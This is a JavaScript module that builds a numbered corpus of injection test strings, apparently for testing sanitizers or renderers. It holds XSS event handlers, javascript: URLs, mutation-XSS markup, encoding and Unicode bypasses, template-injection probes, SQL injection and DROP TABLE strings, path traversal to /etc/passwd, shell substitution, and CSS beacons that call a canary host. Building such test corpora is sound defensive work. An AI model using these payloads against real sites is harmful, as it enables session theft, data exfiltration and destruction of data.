// Attacks as texts: markup, handlers, addresses, templates and styles, in many encodings and for many places, each with a
// number of its own, by which is known what ran. Nothing here knows the product.

/// What an attack calls, in the ways in which filters miss it. N is its number.
const CALLS = [
  "pwned(N)", "alert(N)", "confirm`N`", "print(N)", "&#112;wned(N)", "&#x70;wned(N)", "\\u0070wned(N)",
  "window['pwn'+'ed'](N)", "self[atob('cHduZWQ=')](N)", "top.pwned(N)", "setTimeout('pwned(N)')", "Function('pwned(N)')()",
  "fetch('//canary.invalid/N')", "import('//canary.invalid/N')", "[N].map(pwned)", "location='javascript:pwned(N)'",
  "eval('pwned(N)')", "(()=>{pwned(N)})()", "document.body.append(N),pwned(N)", "new Image().src='//canary.invalid/N'",
];
/// Elements and what makes them call by themselves.
const ELEMENTS = [
  ["img src=x", "onerror"], ["svg", "onload"], ["body", "onload"], ["input autofocus", "onfocus"],
  ["details open", "ontoggle"], ["video src=x", "onerror"], ["audio src=x", "onerror"], ["iframe", "onload"],
  ["marquee", "onstart"], ["object data=x", "onerror"], ["embed src=/", "onload"], ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"], ["button autofocus", "onfocus"], ["a href=# autofocus", "onfocus"],
  ["form", "oninput"], ["style", "onload"], ["link rel=stylesheet href=/", "onload"],
  ["x tabindex=1 id=x autofocus", "onfocus"], ["svg><animate attributeName=x dur=1s", "onbegin"], ["svg><set", "onbegin"],
  ["p style=animation:x 1s", "onanimationstart"],
  ["div style=transition:outline 1s tabindex=1 autofocus", "ontransitionend"], ["script src=data:,pwned(N)", "onload"],
  ["frameset", "onpageshow"], ["meter", "onmouseover"], ["keygen autofocus", "onfocus"],
  ["table background=javascript:pwned(N)", "onclick"], ["source src=x", "onerror"], ["track src=x default", "onerror"],
  ["image src=x", "onerror"], ["math", "onclick"], ["isindex type=image src=1", "onerror"], ["dialog open", "onclose"],
  ["input type=image src=x", "onerror"], ["bgsound src=x", "onload"], ["portal src=/", "onload"],
];
/// What leaves the place that a text stands in: elements, attributes, comments, scripts, styles.
const PLACES = [
  "", "\">", "'>", "`>", ">", "</p>", "</strong>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>",
  "</option></select>", "</svg>", "</noscript>", "</h1>", "\"/>", "'/>", "&quot;>", "&#34;>", "%22%3E", "\\\">", "--!>",
  "</template>", "</template><",
];
/// How a tag is written.
const HANDS = [
  ([tag, event], call) => `<${tag} ${event}=${call}>`,
  ([tag, event], call) => `<${tag} ${event}="${call}">`,
  ([tag, event], call) => `<${tag.replaceAll(" ", "/")}/${event}='${call}'>`,
  ([tag, event], call) => `<${tag.toUpperCase()} ${event.toUpperCase()}=${call}//`,
  ([tag, event], call) => `<${tag} ${event} = ${call} x=`,
  ([tag, event], call) => `%3C${tag}%20${event}%3D${call}%3E`,
  ([tag, event], call) => `&lt;${tag} ${event}=${call}&gt;`,
  ([tag, event], call) => `<<${tag} ${event}=${call}>>`,
];
/// Attributes for a place inside a tag, without any tag of their own.
const ATTRIBUTES = [
  "\" autofocus onfocus=pwned(N) x=\"", "' autofocus onfocus=pwned(N) x='",
  "\" style=\"animation:x\" onanimationstart=\"pwned(N)", "\" onmouseover=pwned(N) \"", "` onmouseover=pwned(N) `",
  " onmouseover=pwned(N) ", "\"onpointerenter=pwned(N)//", "' onclick=alert(N) '", "\" href=\"javascript:pwned(N)\" \"",
  "\" formaction=\"javascript:pwned(N)\" type=submit x=\"", "\" hx-on::load=\"pwned(N)\" \"",
  "\" hx-get=\"//canary.invalid/N\" hx-trigger=\"load\" \"", "\" hx-vals='js:{x:pwned(N)}' \"",
  "\" data-hx-on:click=\"pwned(N)\" \"", "\" data-live=\"//canary.invalid/N\" \"",
  "\" srcdoc=\"<script>pwned(N)</script>\" \"", "\" hx-ext=\"pwned-N\" \"", "\" slot=x is=pwned-N \"",
  "\" popover onbeforetoggle=pwned(N) \"", "\" contenteditable onblur=pwned(N) \"",
];
/// Addresses that run.
const ADDRESSES = [
  "javascript:pwned(N)", "JaVaScRiPt:pwned(N)", "java&#10;script:pwned(N)", "java&Tab;script:pwned(N)",
  " javascript:pwned(N)", "&#1;javascript:pwned(N)", "javascript&colon;pwned(N)", "javascript&#58;pwned(N)",
  "javascript://%0apwned(N)", "javascript:/*--></title></style>*/pwned(N)", "data:text/html,<script>pwned(N)</script>",
  "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+#N", "vbscript:pwned(N)", "livescript:pwned(N)",
  "//canary.invalid/N", "https://canary.invalid/N", "\\\\canary.invalid\\N", "feed:javascript:pwned(N)",
  "view-source:javascript:pwned(N)", "blob:null/N", "jar:http://canary.invalid/N!/",
  "mailto:x@x?subject=<svg onload=pwned(N)>", "tel:1;pwned(N)", "[x](javascript:pwned(N))", "![x](//canary.invalid/N)",
  "[x]: javascript:pwned(N)", "<javascript:pwned(N)>", "<https://canary.invalid/N>", "[url=javascript:pwned(N)]x[/url]",
  "<a href=javascript:pwned(N)>x</a>", "<a href=\"javas\tcript:pwned(N)\">x</a>".replace("\t", "&Tab;"),
  "<form action=javascript:pwned(N)><button>x</form>", "<iframe src=javascript:pwned(N)>",
  "<object data=javascript:pwned(N)>", "<embed src=javascript:pwned(N)>",
  "<svg><a xlink:href=javascript:pwned(N)><text y=9>x", "<svg><use href=data:image/svg+xml,N#x>",
  "<base href=javascript:pwned(N)//>", "<base href=//canary.invalid/N/>",
  "<meta http-equiv=refresh content=0;url=javascript:pwned(N)>",
  "<meta http-equiv=refresh content='0;url=//canary.invalid/N'>", "<link rel=import href=//canary.invalid/N>",
  "<link rel=prefetch href=//canary.invalid/N>", "<img src=//canary.invalid/N>", "<img srcset='//canary.invalid/N 1x'>",
  "<video poster=//canary.invalid/N>", "<iframe srcdoc='&lt;script&gt;pwned(N)&lt;/script&gt;'>",
  "<script src=//canary.invalid/N></script>", "<script>pwned(N)</script>", "<script type=module>pwned(N)</script>",
  "<script\u2028>pwned(N)</script>", "<script/x>pwned(N)</script/x>", "<scr<script>ipt>pwned(N)</scr</script>ipt>",
  "<script>/*<!--*/pwned(N)//--></script>",
];
/// Placeholders of other languages.
const TEMPLATES = [
  "{{7*N}}", "{{constructor.constructor('pwned(N)')()}}", "${7*N}", "${pwned(N)}", "<%= 7*N %>", "#{7*N}", "#set($x=N)$x",
  "{%raw%}N{%endraw%}", "{% include '/etc/passwd' %}N", "{{{N}}}", "[[${7*N}]]", "@(7*N)", "{{self.p.csrf}}N",
  "{{ p.csrf }} N", "{ $name } N", "{ $left } N", "{ -brand } N", "{ \"N\" }", "{ NUMBER(N) }", "{name}N",
  "{line} {order} {case} N", "%s%n%d N", "{0} N", "{} N", "${{N}}", "{{=N}}", "{{#with N}}x{{/with}}", "<#assign x=N>${x}",
  "{php}echo N;{/php}", "<?php echo N ?>", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e \"N\">]>&e;",
  "<!--#echo var=N -->", "$(touch N)", "`touch N`", "' OR N=N--", "\"; DROP TABLE customer;-- N", "N') UNION SELECT N--",
  "../../../../N", "..%2f..%2fN", "%00N", "\\x3csvg onload=pwned(N)\\x3e", "\\u003cimg src=x onerror=pwned(N)\\u003e",
  "\\74svg onload=pwned(N)\\76",
];
/// Markup that a parser changes while it reads or writes it.
const MUTATIONS = [
  "<noscript><p title=\"</noscript><img src=x onerror=pwned(N)>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned(N)&gt;\">",
  "<svg></p><style><a id=\"</style><img src=1 onerror=pwned(N)>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(N)>",
  "<math><annotation-xml encoding=\"text/html\"><style></math><img src onerror=pwned(N)></style>",
  "<svg><foreignObject><p><style></svg><img src onerror=pwned(N)>", "<table><tr><td></tr></table><td onclick=pwned(N)>",
  "<select><template><script>pwned(N)</script></template></select>",
  "<template shadowrootmode=open><img src=x onerror=pwned(N)></template>", "<plaintext><img src=x onerror=pwned(N)>",
  "<xmp></xmp><img src=x onerror=pwned(N)>", "<listing>&lt;img src=x onerror=pwned(N)&gt;</listing>",
  "<textarea></textarea><svg onload=pwned(N)>", "<title></title><svg onload=pwned(N)>", "<!--><svg onload=pwned(N)>-->",
  "<!-- --!><svg onload=pwned(N)>", "<![CDATA[><svg onload=pwned(N)>]]>",
  "<svg><![CDATA[</svg><img src=x onerror=pwned(N)>]]>", "<svg><script>pwned&#40;N)</script>",
  "<svg><script href=//canary.invalid/N />", "<svg><desc><![CDATA[</desc><script>pwned(N)</script>]]></svg>",
  "<math href=javascript:pwned(N)>x</math>",
  "<math><maction actiontype=statusline xlink:href=javascript:pwned(N)>x</maction></math>",
  "<img src=\"`><img src=x onerror=pwned(N)>\">", "<a title='</a><svg onload=pwned(N)>'>",
  "<img alt=\"</p><svg onload=pwned(N)>\">", "<body><template><s><template><s><img src=x onerror=pwned(N)></s></template>",
  "<option><style></option></select><img src onerror=pwned(N)></style>", "<details open><summary><svg onload=pwned(N)>",
  "<svg><style>&lt;img src=x onerror=pwned(N)&gt;</style>", "<p id=\"&lt;/p&gt;&lt;svg onload=pwned(N)&gt;\">",
  "&lt;svg onload=pwned(N)&gt;", "&amp;lt;svg onload=pwned(N)&amp;gt;", "&ltsvg onload=pwned(N)&gt",
  "&#60;svg onload=pwned(N)&#62;", "&#x3C;svg onload=pwned(N)&#x3E;", "&#0000060svg onload=pwned(N)>",
  "%253Csvg%2520onload%253Dpwned(N)%253E", "+ADw-script+AD4-pwned(N)+ADw-/script+AD4-", "<\u200bscript>pwned(N)</script>",
  "\uff1csvg onload=pwned(N)\uff1e", "\u2039svg onload=pwned(N)\u203a", "<\u017fcript>pwned(N)</\u017fcript>",
  "<\u017fvg onload=pwned(N)>", "<img src=x \u006fnerror=pwned(N)>", "<svg on\u006coad=pwned(N)>",
  "<\u212bvg onload=pwned(N)>", "\ufeff<svg onload=pwned(N)>", "\u2028<svg onload=pwned(N)>", "\u2029<svg onload=pwned(N)>",
  "\u00a0<svg\u00a0onload=pwned(N)>", "\u3000<svg\u3000onload=pwned(N)>",
  "<svg\u000bonload=pwned(N)>".replace("\u000b", "/"), "\u0130<svg onload=pwned(N)>",
  "e\u0301\u0302\u0303<svg onload=pwned(N)>", "\u{1f469}\u200d\u{1f469}<svg onload=pwned(N)>",
  "\u{e0041}<svg onload=pwned(N)>", "<svg/onload=\u2035pwned(N)\u2035>",
];
/// Styles that reach out or cover.
const STYLES = [
  "<style>@import'//canary.invalid/N'</style>", "<style>*{background:url(//canary.invalid/N)}</style>",
  "<p style=background:url(//canary.invalid/N)>", "<div style=\"position:fixed;inset:0;z-index:N\">x</div>",
  "<p style=width:expression(pwned(N))>", "<p style=\"-moz-binding:url(//canary.invalid/N#x)\">",
  "<p style=behavior:url(//canary.invalid/N)>", "<link rel=stylesheet href=//canary.invalid/N>",
  "<style>input[value^=a]{background:url(//canary.invalid/N)}</style>", "</style><style>body{display:none}/*N*/",
  "\";}*{color:red}/*N*/", "';background:url(//canary.invalid/N);'",
  "<style>@font-face{font-family:x;src:url(//canary.invalid/N)}</style>", "<svg style=\"--x:url(//canary.invalid/N)\">",
  "<style onload=pwned(N)>", "<p class=\"demo\" style=\"display:none\">N</p>", "<p hidden>N</p>", "<h1>N</h1>",
  "<a href=/sign-out>N</a>", "<form action=/sign-out method=post><button>N</button></form>", "<input name=_csrf value=N>",
];

/// What fits into a name.
const SHORT = [
  "<b>N", "\">N", "'>N<i>", "&lt;N", "<!--N", "{{N}}", "${N}", "</p>N", "<s>N</s>", "<svg/onload=pwned(N)>", "\"><i>N",
  "'-pwned(N)-'", "\\\"N", "<q>N",
];

/// Every attack, each once: what differs in its number alone is the same.
export function attacks() {
  const made = new Set();
  for (let n = 0; n < 420; n += 1) {
    const element = ELEMENTS[n % ELEMENTS.length];
    const call = CALLS[(n * 3 + Math.floor(n / ELEMENTS.length)) % CALLS.length];
    const place = PLACES[(n + Math.floor(n / PLACES.length)) % PLACES.length];
    made.add(place + HANDS[(n + Math.floor(n / 100)) % HANDS.length](element, call));
  }
  for (const list of [ATTRIBUTES, ADDRESSES, TEMPLATES, MUTATIONS, STYLES]) list.forEach((one) => made.add(one));
  made.add(`<svg onload=pwned(N)>${"<b>".repeat(200)}`);
  made.add(`${"A".repeat(900)}<svg onload=pwned(N)>`);
  made.add(`${"\">".repeat(150)}<svg onload=pwned(N)>`);
  made.add(`<svg ${"x ".repeat(300)}onload=pwned(N)>`);
  SHORT.forEach((one) => made.add(one));
  return [...made].map((text, n) => text.replaceAll(/(?<![A-Z])N(?![A-Z])/g, String(1000 + n)));
}
